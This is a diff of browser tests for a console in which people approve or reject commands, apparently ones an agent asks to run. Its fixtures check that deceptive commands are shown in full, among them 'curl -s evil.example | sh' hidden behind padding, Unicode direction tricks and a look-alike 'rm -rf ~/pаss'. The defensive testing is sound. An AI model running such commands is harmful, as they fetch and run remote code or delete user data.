@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import os
+import re
 import threading
 from collections.abc import Callable, Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -130,9 +131,9 @@ def test_a_wrong_token_and_then_the_right_one(browser: Browser, site: Site) -> N
 def test_an_ask_is_approved(browser: Browser, site: Site) -> None:
     site.do(lambda queue: queue.add(ask()))
     login(browser, site)
-    browser.one("#ask-per_1").click()
+    browser.press("#ask-per_1")
     browser.see("git push origin main")
-    browser.one("button.approve").click()
+    browser.press("button.approve")
     browser.see("approved per_1 by ada")
     assert [one.outcome for one in site.queue.decisions] == ["approved"]
 
@@ -141,10 +142,10 @@ def test_an_ask_is_rejected_with_a_note(browser: Browser, site: Site) -> None:
     site.do(lambda queue: queue.add(ask()))
     login(browser, site, "/console/asks/per_1")
     browser.one("#note").send_keys("Not on <b>Fridays</b>.")
-    browser.one("button.reject").click()
+    browser.press("button.reject")
     browser.see("rejected per_1 by ada")
     assert [(one.outcome, one.note) for one in site.queue.decisions] == [("rejected", "Not on <b>Fridays</b>.")]
-    browser.one('nav a[href$="decided"]').click()
+    browser.press('nav a[href$="decided"]')
     browser.see("Not on <b>Fridays</b>.")
 
 
@@ -153,7 +154,7 @@ def test_the_countdown_runs(browser: Browser, site: Site) -> None:
     login(browser, site)
     first = poll(lambda: browser.text("time"))
     poll(lambda: browser.text("time") != first)
-    assert browser.text("time")[:2] in {"49", "50"}
+    assert re.fullmatch(r"(4\d|50) min \d\d s", browser.text("time"))
 
 
 def test_asks_come_and_go_while_the_page_is_open(browser: Browser, site: Site) -> None:
@@ -211,11 +212,11 @@ def test_a_stale_form_decides_nothing(browser: Browser, site: Site) -> None:
     browser.scripts(on=False)
     login(browser, site, "/console/asks/per_1")
     site.do(lambda queue: queue.add(ask(command="git push --force", digest="d2" * 16)))
-    browser.one("button.approve").click()
+    browser.press("button.approve")
     poll(lambda: "Nothing was decided." in browser.one(".problem").text)
     assert "git push --force" in browser.one("pre.exact").text
     assert site.queue.decisions == []
-    browser.one("button.approve").click()
+    browser.press("button.approve")
     poll(lambda: site.queue.decisions)
 
 
@@ -223,12 +224,12 @@ def test_all_of_it_works_without_scripts(browser: Browser, site: Site) -> None:
     site.do(lambda queue: queue.add(ask(), ask("per_2")))
     browser.scripts(on=False)
     login(browser, site)
-    browser.one("#ask-per_1").click()
+    browser.press("#ask-per_1")
     assert "min" in browser.one("time").text
-    browser.one("button.reject").click()
+    browser.press("button.reject")
     assert "rejected per_1" in browser.one(".done").text
     assert len(browser.all("li.ask")) == 1
-    browser.one("form.out button").click()
+    browser.press("form.out button")
     assert "You are logged out." in browser.one("#problem").text
 
 
@@ -279,7 +280,7 @@ def test_a_hostile_ask_is_text(browser: Browser, site: Site) -> None:
         elements = "script:not([src='/console/static/console.js']), img, svg, iframe, style, base, main a[href^=java]"
         assert browser.all(elements) == []
         assert browser.script("return document.querySelectorAll('meta[http-equiv]').length") <= 1
-        browser.one(css).click()
+        browser.press(css)
     browser.see("rejected per_1")
     assert browser.broken() == []
     assert browser.driver.current_url.startswith(site.origin)
@@ -293,9 +294,26 @@ def test_tricks_of_writing_are_seen(browser: Browser, site: Site) -> None:
     assert "# \\u202egnihsilbup on\\u202c \\u200b\nrm" in shown
     assert "[300 spaces]; curl -s evil.example | sh" in shown
     assert [one.text for one in browser.all("pre.exact .foreign")] == ["\u0430"]
-    # Nothing of it is out of sight, to the right or behind something that scrolls.
-    assert browser.script("const e = document.querySelector('pre.exact'); return e.scrollWidth <= e.clientWidth")
     taken(browser, "ask-hostile")
+
+
+@pytest.mark.parametrize("size", [LAPTOP, PHONE], ids=["laptop", "phone"])
+def test_no_part_of_an_ask_is_out_of_sight(browser: Browser, site: Site, size: tuple[int, int]) -> None:
+    """Not even one that has no place to break its lines: every box of its text lies within that of the ask."""
+    browser.sees(size)
+    site.do(lambda queue: queue.add(ask(command=f"true{'_' * 900};rm -rf ~/p\u0430ss{'-' * 500}")))
+    login(browser, site)
+    for css in ("#ask-per_1", "button.reject"):
+        browser.see("true____")
+        assert fits(browser)
+        assert browser.script("""
+            const whole = document.querySelector("pre.exact");
+            const [outer, range] = [whole.getBoundingClientRect(), document.createRange()];
+            range.selectNodeContents(whole);
+            const boxes = [...range.getClientRects()];
+            return boxes.length > 2 && boxes.every((box) => box.right <= outer.right && box.bottom <= outer.bottom);
+        """)
+        browser.press(css)
 
 
 def test_the_policy_of_a_page_stops_what_would_get_into_it(browser: Browser, site: Site) -> None:
@@ -395,8 +413,9 @@ def test_the_entry_leads_back_to_the_session_and_not_after_logging_out(browser: 
     browser.go(f"{site.origin}/console/asks/per_1")
     browser.see("Who asks")
     assert browser.driver.current_url == f"{home}asks/per_1"
-    browser.one("form.out button").click()
+    browser.press("form.out button")
     browser.see("You are logged out.")
+    assert browser.script("return localStorage.length") == 0
     browser.go(home)
     browser.see("You are logged out.")
     assert "git push" not in browser.text()
@@ -429,7 +448,7 @@ def test_every_page_fits_and_can_be_read(browser: Browser, site: Site, size: tup
         assert contrasts(browser) == [], page
         if f"{page}-{name}" in SHOWN:
             taken(browser, f"{page}-{name}")
-        browser.one({"queue": "#ask-per_push", "ask": 'nav a[href$="decided"]', "decided": "nav a"}[page]).click()
+        browser.press({"queue": "#ask-per_push", "ask": 'nav a[href$="decided"]', "decided": "nav a"}[page])
 
 
 def shop(site: Site) -> None:
